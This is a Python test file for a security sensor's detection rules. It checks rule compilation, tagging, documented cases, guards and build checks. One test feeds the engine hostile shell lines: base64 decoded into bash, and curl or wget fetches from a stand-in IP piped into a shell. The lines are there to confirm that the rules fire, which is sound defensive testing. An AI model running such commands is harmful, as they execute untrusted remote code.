"""The rules that ship: sound, tagged, explained, and true to their cases."""

from pathlib import Path

import pytest

from sensor.detect.compact import Rule, RuleSet
from sensor.detect.engine import Engine
from sensor.detect.guards import guard_of
from sensor.model.events import Missing
from sensor.sigma import ship
from sensor.sigma.cases import Case, cases_beside, failures
from sensor.sigma.compiler import Compiler, compile_paths
from sensor.sigma.documents import Document, documents, rule_files
from tests.rules_from import exec_event

FOLDER = Path(__file__).parents[4] / "rules"
FILES = [path for path in rule_files([FOLDER]) if isinstance(path, Path)]
RULES = compile_paths([FOLDER])
ENGINE = Engine(RULES)


def test_there_are_sixty_and_more_and_all_can_match() -> None:
    assert len(RULES.rules) >= 60
    assert RULES.problems == ()
    assert [rule.title for rule in RULES.rules if rule.not_here or rule.without] == []
    assert ENGINE.problems == []


@pytest.mark.parametrize("path", FILES, ids=lambda path: path.stem)
def test_a_rule_says_what_it_is_and_its_cases_hold(path: Path) -> None:
    (document,) = documents(path)
    assert isinstance(document, Document)
    rule = next(rule for rule in RULES.rules if rule.source == document.at("title"))
    cases = [case for case in cases_beside(path) if isinstance(case, Case)]

    assert {"description", "falsepositives", "what_to_do", "response", "level", "author"} <= document.content.keys()
    assert any(tag.startswith("attack.t") for tag in rule.tags)
    assert {case.fires for case in cases} == {True, False}
    assert len(cases) == len(list(cases_beside(path)))
    assert list(failures(cases, ENGINE, rule.id)) == []


UNSHOWN = {("node_starts_shell", "npm", "never")}
"""What no case can show: none has the arguments of its parent."""

INSTEAD = {"never": {"kind": "none"}, "always": {"kind|contains": "."}}


@pytest.mark.parametrize("path", FILES, ids=lambda path: path.stem)
def test_each_selection_decides_a_case(path: Path) -> None:
    (document,) = documents(path)
    assert isinstance(document, Document)
    names = document.content["detection"].keys() - {"condition"}

    idle = {(name, how) for name in names for how in INSTEAD if cases_hold(path, changed(document, name, how))}

    assert idle == {(name, how) for rule, name, how in UNSHOWN if rule == path.stem}


def changed(document: Document, name: str, how: str) -> Rule:
    """The rule with a selection that matches nothing, or everything."""
    detection = {**document.content["detection"], name: INSTEAD[how]}
    compiler = Compiler()
    compiler.add(document._replace(content={**document.content, "detection": detection}))
    (rule,) = compiler.result().rules
    return rule


def cases_hold(path: Path, rule: Rule) -> bool:
    cases = [case for case in cases_beside(path) if isinstance(case, Case)]
    return not list(failures(cases, Engine(RuleSet((rule,))), rule.id))


def test_no_rule_is_asked_of_every_program() -> None:
    unguarded = [
        rule.title
        for rule in RULES.rules
        for variant in rule.variants
        if "process.exec" in variant.kinds and guard_of(variant.condition) is None
    ]

    assert unguarded == []


UNREAD = ("process.args", "process.cwd", "process.uid", "process.gid")
"""What a process of under a millisecond takes with it."""


@pytest.mark.parametrize("path", FILES, ids=lambda path: path.stem)
def test_no_rule_takes_a_near_miss_for_an_attack_because_it_was_not_read(path: Path) -> None:
    (document,) = documents(path)
    assert isinstance(document, Document)
    rule = next(rule for rule in RULES.rules if rule.source == document.at("title"))
    near = [case.event for case in cases_beside(path) if isinstance(case, Case) and not case.fires]

    for event in near:
        if event.process is None:
            continue
        missing = tuple(Missing(field, "gone") for field in UNREAD)
        unread = event._replace(
            process=event.process._replace(args=None, cwd=None, uid=None, gid=None, user=None),
            evidence=event.evidence._replace(missing=missing),
        )
        assert rule.id not in {found.id for found in ENGINE.matches(unread)}


DECODED, DOWNLOADED = "Base64 is decoded into a shell", "A download is handed to a shell"


@pytest.mark.parametrize(
    ("line", "title"),
    [
        ("echo {} | base64 -d | bash", DECODED),
        ("echo {}|base64 --decode|/bin/sh -x", DECODED),
        ("X={}; curl -fsSL http://203.0.113.9/x | bash", DOWNLOADED),
        ("# {}\nwget -qO- http://203.0.113.9/x|sudo -E sh -s -- --yes", DOWNLOADED),
    ],
)
def test_a_payload_may_be_as_long_as_command_lines_are_kept(line: str, title: str) -> None:
    event = exec_event("sh", args=("sh", "-c", line.format("A" * 32_000)))

    assert title in {rule.title for rule in ENGINE.matches(event)}


def test_cases_stand_beside_a_rule() -> None:
    assert sorted(p.name.removesuffix(".cases.yml") for p in FOLDER.glob("*.cases.yml")) == [p.stem for p in FILES]


def test_what_ships_is_compiled_and_kept_current(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "rules.msgpack"

    assert ship.main(["--check", str(FOLDER), str(target)]) == 1
    assert ship.main([str(FOLDER), str(target)]) == 0
    assert ship.main(["--check", str(FOLDER), str(target)]) == 0
    assert "out of date" in capsys.readouterr().err


def test_a_wrong_rule_ends_the_build(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a.yml").write_text("title: x\nlogsource: {service: cron}\ndetection: {s: [a], condition: s}\n")

    assert ship.main([str(tmp_path), str(tmp_path / "out")]) == 1
    assert "a.yml:1: matches nothing" in capsys.readouterr().err
    assert ship.main([]) == 2
